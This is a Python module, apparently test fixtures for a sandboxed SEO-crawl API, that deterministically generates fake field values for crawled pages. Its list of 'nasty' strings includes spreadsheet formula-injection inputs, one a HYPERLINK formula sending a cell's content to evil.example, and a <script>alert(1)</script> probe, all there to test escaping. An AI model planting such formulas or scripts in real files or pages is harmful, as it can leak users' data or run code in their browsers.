"""What the cells hold: for each field a function from the row's number to its value.

Everything follows from the project, the analysis and the number of the row, so the same cell
always holds the same value, and no row needs to be kept. The texts are nasty on purpose.
"""

import zlib
from bisect import bisect_right
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

from sandbox.botify.fields import LINKS, Field

if TYPE_CHECKING:
    from sandbox.botify.world import Analysis

Value = Callable[[int], Any]
Maker = Callable[["Analysis", Field], Value]

SECTIONS = ("blog", "brand", "category", "help", "product", "search")
SECTION_OF = tuple(SECTIONS[index] for index in (4, 4, 2, 4, 0, 4, 4, 2, 4, 1, 4, 0, 4, 2, 3, 5))
"""Which part of the site a row is in, by its number modulo the length. See `rows.by_url`."""

SLUGS = (
    "red-shoes", "winter-sale", "blue-jeans", "caf%C3%A9-cups", "chaussures-d'été", "a,b,c",
    "größe-42", "sac-à-main", "o'neill", "%22quoted%22", "قميص", "スニーカー", "gift-🎁",
    "socks", "rain-coat", "50%25-off", "hat;cap", "news(2)", "men's-belt", "new~in", "x=1&y=2",
)  # fmt: skip

NASTY = (
    "Plain words",
    "Shoes, boots, sandals",
    'The "best" shoes',
    '"',
    'ends with a quote"',
    "two\nlines",
    "two\r\nDOS lines",
    "a lone\rreturn",
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+49 30 1234",
    "-20% on everything",
    "@acme on every network",
    "\tstarts with a tab",
    "\rstarts with a return",
    " spaces around ",
    "Größe & Maß \u2013 süß",
    "Crème brûlée à l'été",
    "قمصان رجالية 50%",
    "חולצות לגברים",
    "スニーカー、靴下",
    "Party 🎉🎁 👨‍👩‍👧‍👦 time",
    "e\u0301 combining, \u00a0 no-break, \u200b nothing",
    "\u202ereversed\u202c",
    "<b>Bold</b> &amp; <script>alert(1)</script>",
    "semi;colon\tand tab",
    "sep=;",
    "null",
    "'apostrophe first",
    "Ünïcödé " * 40,
    None,
    None,
)
"""Texts as crawlers find them, those that a spreadsheet would run, and none at all."""

WORDS = (
    "Running shoes", "Leather bags", "Summer dresses", "Opening hours", "Gift ideas",
    "Men, new in", "Women \u2013 sale", "Kids' jackets", "Café chairs", "About Acme",
)  # fmt: skip
TAILS = {
    "metadata.title.content": " for every season and budget | Acme Store",
    "metadata.description.content": (
        ": compare sizes, colours and prices, read what other customers say, and order until"
        " evening for delivery on the next day."
    ),
}
"""What makes a text as long as such texts usually are."""
POOL = 127
"""Length of the cycle of texts; prime, so that cycles of different fields drift apart."""

CODES = (200,) * 17 + (301, 301, 302, 404, 410, 500)
REASONS = {code: "HTTP Code" for code in CODES if code != 200}  # noqa: PLR2004 - HTTP's own number
LANGS = ("en", "fr", "de", "ar", "ja", None)
CONTENT_TYPES = ("text/html", "text/html", "text/html", "application/pdf", None)
TREES = ("Store/Footwear/Socks", "Store/Footwear", "Store", "Magazine/2026", None)
QUALITIES = ("unique", "duplicate", "unique", "not set")
HOW_MANY = (1, 1, 2, 1, 1, 0, 1, 3, 1, 1, 5)
"""How many values a multiple field has, in turn."""
LINKS_PER_PAGE = (3, 0, 5, 1, 2, 4, 0)
"""How many internal links a page has, in turn."""
SCATTER = 2654435761
"""Knuth's multiplier: neighbouring rows get distant numbers."""


def salt(*parts: str) -> int:
    """A number that depends on the texts and on nothing else."""
    return zlib.crc32("\x00".join(parts).encode())


def value_of(analysis: "Analysis", field: Field) -> Value:
    """The function that gives a field's value for a row of an analysis."""
    maker = MAKERS.get(field.id)
    if maker is None and field.subtype in BY_SUBTYPE:
        maker = BY_SUBTYPE[field.subtype]
    if maker is None and field.multiple:
        maker = lists
    if maker is None and field.id.startswith("segments."):
        maker = levels
    return (maker or BY_TYPE[field.type])(analysis, field)


def url(analysis: "Analysis", _field: Field) -> Value:
    """Every URL is different, and within a section their order is that of the rows."""
    start = f"https://{analysis.host}/"
    sections, slugs = len(SECTION_OF), len(SLUGS)

    def value(row: int) -> str:
        if not row:
            return start
        return f"{start}{SECTION_OF[row % sections]}/{row:07d}-{SLUGS[row % slugs]}"

    return value


def depth(analysis: "Analysis", _field: Field) -> Value:
    ends, depths = analysis.ends, analysis.depth_numbers

    def value(row: int) -> int | None:
        place = bisect_right(ends, row)
        return depths[place] if place < len(depths) else None

    return value


def texts(analysis: "Analysis", field: Field) -> Value:
    start = salt(analysis.key, field.id) % POOL
    nasty, words, tail = len(NASTY), len(WORDS), TAILS.get(field.id, "")

    def value(row: int) -> str | None:
        place = (row * 37 + start) % POOL
        return NASTY[place] if place < nasty else f"{WORDS[place % words]} {row}{tail}"

    return value


def lists(analysis: "Analysis", field: Field) -> Value:
    text = texts(analysis, field)
    how_many = counts(HOW_MANY)

    def value(row: int) -> list[str]:
        return [text(row + 13 * place) or "" for place in range(how_many(row))]

    return value


def counts(cycle: tuple[int, ...]) -> Callable[[int], int]:
    length = len(cycle)
    return lambda row: cycle[row % length]


def whole(limit: int, start: int = 0) -> Maker:
    """Whole numbers from `start` up, below `start + limit`."""

    def maker(analysis: "Analysis", field: Field) -> Value:
        shift = salt(analysis.key, field.id)
        return lambda row: ((row * SCATTER + shift) >> 8) % limit + start

    return maker


def fractions(analysis: "Analysis", field: Field) -> Value:
    """Decimals of both signs; now and then a very small one, or none."""
    number = whole(4000, -1000)(analysis, field)

    def value(row: int) -> float | None:
        if not row % 17:
            return None
        scaled: float = number(row) / (100 if row % 5 else 10_000_000)
        return scaled

    return value


def booleans(analysis: "Analysis", field: Field) -> Value:
    shift = salt(analysis.key, field.id) % 10
    return lambda row: (row * 7 + shift) % 10 < 3  # noqa: PLR2004 - three rows in ten


def one_of(*values: Any) -> Maker:
    """The values in turn, each field beginning elsewhere."""

    def maker(analysis: "Analysis", field: Field) -> Value:
        shift, length = salt(analysis.key, field.id), len(values)
        return lambda row: values[(row + shift) % length]

    return maker


def constant(value: Any) -> Maker:
    return lambda _analysis, _field: lambda _row: value


def moments(analysis: "Analysis", _field: Field) -> Value:
    day = analysis.day
    return lambda row: f"{day}T{row // 3600 % 24:02d}:{row // 60 % 60:02d}:{row % 60:02d}"


def dates(_analysis: "Analysis", _field: Field) -> Value:
    return lambda row: f"2026-{row % 12 + 1:02d}-{row % 28 + 1:02d}" if row % 9 else None


def host(analysis: "Analysis", _field: Field) -> Value:
    return lambda _row: analysis.host


def path(analysis: "Analysis", field: Field) -> Value:
    address, start = url(analysis, field), len(f"https://{analysis.host}")
    return lambda row: address(row)[start:]


def length_of(other: Maker) -> Maker:
    """The length of another field's text, or the number of its values."""

    def maker(analysis: "Analysis", field: Field) -> Value:
        source = other(analysis, field)
        return lambda row: len(source(row) or "")

    return maker


def like(other: str, maker: Maker) -> Maker:
    """What the maker makes for another field."""
    return lambda analysis, _field: maker(analysis, Field(other, other))


def http_code(_analysis: "Analysis", _field: Field) -> Value:
    return counts(CODES)


def is_compliant(_analysis: "Analysis", _field: Field) -> Value:
    code = counts(CODES)
    return lambda row: code(row) not in REASONS


def is_refused(_analysis: "Analysis", _field: Field) -> Value:
    code = counts(CODES)
    return lambda row: code(row) in REASONS


def reason(_analysis: "Analysis", _field: Field) -> Value:
    code = counts(CODES)
    return lambda row: REASONS.get(code(row))


def page_type(_analysis: "Analysis", _field: Field) -> Value:
    sections = len(SECTION_OF)
    return lambda row: f"{SECTION_OF[row % sections]}/page" if row else "home"


def levels(analysis: "Analysis", field: Field) -> Value:
    """A segmentation's node, or one level of it."""
    name, part = field.id.rsplit(".", 1)
    source = like(name, one_of(*TREES))
    if name == "segments.pagetype":
        source = page_type
    node = source(analysis, field)
    if part == "value":
        return node
    level = int(part.removeprefix("depth_"))

    def value(row: int) -> str | None:
        parts = (node(row) or "").split("/")
        return parts[level - 1] or None if len(parts) >= level else None

    return value


def links(analysis: "Analysis", field: Field) -> Value:
    """All internal links of a page: what the links graph gives one row each."""
    address, how_many, size = url(analysis, field), counts(LINKS_PER_PAGE), analysis.size

    def value(row: int) -> list[str]:
        return [address((row * 7 + place * 11) % size) for place in range(how_many(row))]

    return value


def sample(analysis: "Analysis", field: Field) -> Value:
    every = links(analysis, field)
    return lambda row: every(row)[:2]


def url_status(analysis: "Analysis", field: Field) -> Value:
    """A struct for one row in seven, nothing for the others."""
    address, size = url(analysis, field), analysis.size

    def value(row: int) -> dict[str, Any] | None:
        return None if row % 7 else {"url": address(row * 3 % size), "crawled": row % 2 == 0}

    return value


def link_status(analysis: "Analysis", field: Field) -> Value:
    every = links(analysis, field)
    return lambda row: [
        {"status": ["follow"], "url": {"url": address, "crawled": True}}
        for address in every(row)[:2]
    ]


def anchors(_analysis: "Analysis", _field: Field) -> Value:
    return lambda row: [
        {"text": word, "nb": row % 5 + 1} for word in WORDS[row % 5 : row % 5 + row % 3]
    ]


BY_TYPE: dict[str, Maker] = {
    "string": texts,
    "tree": one_of(*TREES),
    "boolean": booleans,
    "integer": whole(600, -50),
    "long": whole(5_000_000),
    "float": fractions,
    "double": fractions,
    "date": dates,
    "datetime": moments,
}

BY_SUBTYPE: dict[str, Maker] = {
    "url_status": url_status,
    "url_link_status": link_status,
    "string_nb_map": anchors,
    "url": sample,
    "time_millisec": whole(3000, 20),
}

COUNTS = whole(40)
TITLE = like("metadata.title.content", texts)
DESCRIPTION = like("metadata.description.content", texts)

MAKERS: dict[str, Maker] = {
    "url": url,
    "depth": depth,
    "http_code": http_code,
    "byte_size": whole(400_000, 500),
    "content_type": one_of(*CONTENT_TYPES),
    "protocol": constant("https"),
    "host": host,
    "path": path,
    "query_string": constant(None),
    "query_string_keys": one_of([], ["color"], ["color", "size"]),
    "lang": one_of(*LANGS),
    "main_image": path,
    "url_exists_crawl": constant(True),
    "metadata.title.nb": length_of(like("metadata.title.contents", lists)),
    "metadata.title.len": length_of(TITLE),
    "metadata.title.quality": one_of(*QUALITIES),
    "metadata.description.len": length_of(DESCRIPTION),
    "metadata.h1.nb": length_of(like("metadata.h1.contents", lists)),
    "metadata.h2.nb": length_of(like("metadata.h2.contents", lists)),
    "metadata.h3.nb": length_of(like("metadata.h3.contents", lists)),
    "compliant.is_compliant": is_compliant,
    "indexable.is_indexable": is_compliant,
    "compliant.main_reason": reason,
    "compliant.detailed_reason": reason,
    "indexable.main_reason": reason,
    "indexable.detailed_reason": reason,
    "compliant.reason.http_code": is_refused,
    "outlinks_internal.nb.total": length_of(links),
    "rel.hreflang.out.valid.langs": one_of([], ["en", "fr"], ["en-GB"]),
    "visits.organic.all.nb": whole(900),
    LINKS: links,
    "metadata.description.nb": COUNTS,
    "metadata.title.duplicates.context_aware.nb": COUNTS,
    "redirect.to.nb_hops": COUNTS,
    "inlinks_internal.nb.total": COUNTS,
    "inlinks_internal.nb.unique": COUNTS,
    "outlinks_internal.nb.unique": COUNTS,
    "outlinks_external.nb.total": COUNTS,
}
"""Fields whose values mean something beside other fields; the rest follows from the type."""
